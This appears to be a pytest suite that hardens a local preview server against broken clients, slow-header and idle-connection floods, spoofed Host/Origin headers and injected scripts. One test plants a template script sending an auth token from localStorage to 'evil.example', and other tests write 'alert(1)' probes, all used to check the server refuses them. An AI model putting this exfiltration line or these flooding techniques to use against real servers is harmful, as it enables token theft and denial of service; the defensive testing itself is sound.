"""The Studio among requests and signals that nobody sends by mistake: it goes on, says nothing but what is so, and ends
when it is told to."""

from __future__ import annotations

import os
import resource
import signal
import socket
import struct
import subprocess
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any

import pytest

from conftest import CALOTYPE, Space
from studio_server import AWAITING, NOD, PATIENCE, Server, write_project
from survival import Studio, studio

__all__ = ["studio"]
UPLOAD = "POST /api/imports?name=exercises/nod/01 HTTP/1.1"


class Besieged(Server):
    """A Studio, and what it has said on stderr so far."""

    def __init__(self, process: subprocess.Popen[str], line: str, log: Path) -> None:
        super().__init__(process, line)
        self._log = log

    @property
    def told(self) -> str:
        return self._log.read_text()

    def connect(self) -> socket.socket:
        name, _, port = self.host.rpartition(":")
        return socket.create_connection((name, int(port)), timeout=PATIENCE)

    def say(self, *lines: str, body: bytes = b"") -> socket.socket:
        connection = self.connect()
        connection.sendall("".join(f"{line}\r\n" for line in (*lines, "")).encode() + body)
        return connection

    def signal(self, *signals: int, pause: float = 0.3) -> tuple[int, float]:
        """The exit code, and the seconds from the last of the signals on."""
        for number in signals:
            time.sleep(pause)
            self.process.send_signal(number)
        began = time.monotonic()
        return self.process.wait(PATIENCE), time.monotonic() - began

    @property
    def peak(self) -> int:
        """The most memory that it has had, in MB."""
        lines = Path(f"/proc/{self.process.pid}/status").read_text().splitlines()
        return next(int(line.split()[1]) // 1024 for line in lines if line.startswith("VmHWM"))


@contextmanager
def besieged(root: Path, *words: str, files: int | None = None, env: dict[str, str] | None = None) -> Iterator[Besieged]:
    """A Studio that has to end with 130, or has ended, without a traceback. `files`: its limit on open ones."""
    log = root.parent / f"{root.name}.stderr"
    limit = None if files is None else lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (files, files))
    with log.open("w") as told, subprocess.Popen(
            [str(CALOTYPE), "studio", "--no-open", "--port", "0", *words], cwd=root, stdout=subprocess.PIPE, stderr=told,
            text=True, env={**os.environ, **(env or {})}, preexec_fn=limit) as process:
        try:
            assert process.stdout is not None
            server = Besieged(process, process.stdout.readline().strip(), log)
            yield server
            assert server.stop() in (130, 1)
            assert "Traceback" not in server.told, server.told
        finally:
            process.kill()


@pytest.fixture
def calm(space: Space) -> Iterator[tuple[Space, Besieged]]:
    write_project(space, "seed: 1", AWAITING)
    with besieged(space.root) as server:
        server.wait_for_build()
        yield space, server


def test_a_client_that_goes_in_the_middle_leaves_no_word(calm: tuple[Space, Besieged]) -> None:
    _, server = calm
    head = (f"Host: {server.host}", f"Authorization: Bearer {server.token}", "Content-Length: 1000")
    with server.say(UPLOAD, *head, body=b"half") as connection:
        connection.shutdown(socket.SHUT_WR)
        assert connection.recv(100) == b""
    with server.say(UPLOAD, *head, body=b"half") as connection:
        time.sleep(0.1)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    for lines in (("\x16\x03\x01", "x"), ("GET /api/state HTTP/1.1", f"Host: {server.host}", "Connection: Upgrade",
                                          "Upgrade: websocket", "Connection: close")):
        with server.say(*lines) as connection:
            connection.recv(100)
    assert server.ask("/api/state").status == 200
    assert server.told == ""


@pytest.mark.parametrize("line", ["Host: evil.example", "Authorization: Bearer x", "Origin: http://evil.example"])
def test_what_decides_who_may_pass_stands_once(calm: tuple[Space, Besieged], line: str) -> None:
    _, server = calm
    ours = {"Host": server.host, "Authorization": f"Bearer {server.token}", "Origin": f"http://{server.host}"}
    with server.say("POST /api/builds HTTP/1.1", line, *(f"{name}: {value}" for name, value in ours.items()),
                    "Content-Length: 0", "Connection: close") as connection:
        assert connection.recv(100).startswith(b"HTTP/1.1 400")


def test_who_says_nothing_is_left_and_takes_no_file_from_a_build(space: Space) -> None:
    write_project(space, "seed: 1")
    with besieged(space.root, files=512) as server, ExitStack() as stack:
        server.wait_for_build()
        idle = [stack.enter_context(server.connect()) for _ in range(400)]
        for connection in idle[::2]:
            try:
                connection.sendall(b"GET / HTTP/1.1\r\nHo")
            except ConnectionError:
                continue  # it was one too many
        space.edit(NOD, "seed: 1", "seed: 2")
        time.sleep(1)
        assert space.call("check", "-q").code == 0
        server.wait(lambda: _answers(server), "it never answers again")
        assert server.state["diagnostics"] == [] and server.state["builds"] == 2
        assert server.told == ""


def _answers(server: Server) -> bool:
    try:
        return server.ask("/api/state").status == 200
    except (ConnectionError, OSError):
        return False


def test_a_connection_has_ten_seconds_to_ask(calm: tuple[Space, Besieged]) -> None:
    _, server = calm
    with server.say("GET / HTTP/1.1", f"Host: {server.host}") as second, server.connect() as silent:
        assert second.recv(100).startswith(b"HTTP/1.1 307")
        began = time.monotonic()
        while time.monotonic() < began + 30:  # a head that never ends, byte by byte
            try:
                second.sendall(b"x")
            except ConnectionError:
                break
            time.sleep(0.3)
        assert 3 < time.monotonic() - began < 20
        assert silent.recv(100) == b""


def test_a_large_picture_is_given_part_by_part(calm: tuple[Space, Besieged]) -> None:
    space, server = calm
    path = space.root / "content/large.png"
    with path.open("wb") as file:
        file.truncate(300 << 20)
    before = server.peak
    with server.say("GET /content/large.png HTTP/1.1", f"Host: {server.host}") as slow:
        answer = server.ask("/content/large.png")
        assert (answer.status, len(answer.body)) == (200, 300 << 20)
        slow.recv(1)
    assert server.peak - before < 60
    tag = answer.headers["etag"]
    assert server.ask("/content/large.png", headers={"If-None-Match": f'"x", W/{tag}'}).status == 304
    assert server.ask("/content/large.png", "HEAD").headers["content-length"] == str(300 << 20)
    with server.say("GET /content/large.png HTTP/1.1", f"Host: {server.host}") as cut:
        cut.recv(1)
        os.truncate(path, 100)
        assert sum(map(len, iter(lambda: cut.recv(1 << 20), b""))) < 300 << 20


@pytest.mark.parametrize("condition", ["{}", "W/{}", '"x", {}', "*"])
def test_what_a_browser_holds_is_not_sent_again(calm: tuple[Space, Besieged], condition: str) -> None:
    _, server = calm
    tag = server.ask("/build/index.html").headers["etag"]
    assert server.ask("/build/index.html", headers={"If-None-Match": condition.format(tag)}).status == 304
    assert server.ask("/build/index.html", headers={"If-None-Match": '"x"'}).status == 200
    assert server.ask("/", "HEAD").status == 307


def test_a_project_brings_no_script_of_its_own(space: Space) -> None:
    write_project(space, "seed: 1")
    space.write("templates/sheets/sheet.js", "location = 'http://evil.example/' + localStorage['calotype-token']")
    with besieged(space.root) as server:
        server.wait_for_build()
        space.write("content/x.js", "alert(1)")
        space.write("build/data/x.js", "calotype.add([]); alert(1);")
        space.write("build/data/y.js", "alert(1)")
        assert [server.ask(f"/{path}").status for path in ("content/x.js", "build/data/x.js", "build/data/y.js")] == [404] * 3
        script = server.ask("/build/sheet.js?v=1")
        assert b"evil" not in script.body and b"slideAll" in script.body and "immutable" not in script.headers["cache-control"]
        assert server.ask("/build/data/shards.js").body.startswith(b"calotype.read(")


def test_a_name_that_is_no_utf8_is_told_everywhere(calm: tuple[Space, Besieged]) -> None:
    space, server = calm
    odd = os.fsencode(space.root / "specs/exercises/neck") + b"/\xff.yaml"
    with open(odd, "w") as file:
        file.write("kind: exercise\n")
    server.wait(lambda: server.state["invalid"])
    assert "�.yaml" in server.ask("/api/builds").body.decode()
    assert server.ask("/api/targets").status == 422


@pytest.fixture
def slow(studio: Studio) -> Iterator[tuple[Studio, Besieged]]:
    """A Studio in whose first picture the painter is for a minute."""
    studio.exercise("nod", "description: one")
    studio.order(everything={"seconds": 60})
    with besieged(studio.root, env={"CALOTYPE_PAINTER": str(studio.notes)}) as server:
        server.wait(lambda: server.state.get("building") and studio.painted)
        yield studio, server


@pytest.mark.parametrize("signals", [(signal.SIGINT,) * 2, (signal.SIGTERM,) * 2, (signal.SIGINT, signal.SIGTERM),
                                     (signal.SIGHUP, signal.SIGHUP, signal.SIGINT)], ids=str)
@pytest.mark.parametrize("pause", [0.3, 3.0])
def test_the_second_signal_ends_it_at_once_whatever_is_drawn(
    slow: tuple[Studio, Besieged], signals: tuple[int, ...], pause: float
) -> None:
    project, server = slow
    code, seconds = server.signal(*signals, pause=pause)
    assert code == 130 and seconds < 5
    assert "interrupted; what was finished is kept" in server.told
    project.order()
    assert project.call("build").code == 0 and project.content() == project.clean().content()


def test_nobody_may_read_what_it_prints(space: Space) -> None:
    write_project(space, "seed: 1")
    process: Any = subprocess.Popen([str(CALOTYPE), "studio", "--no-open", "--port", "0"], cwd=space.root,
                                    stdout=subprocess.PIPE, stderr=subprocess.PIPE, env={**os.environ})
    process.stdout.close()
    process.stderr.close()
    time.sleep(2)
    process.send_signal(signal.SIGINT)
    assert process.wait(PATIENCE) == 130
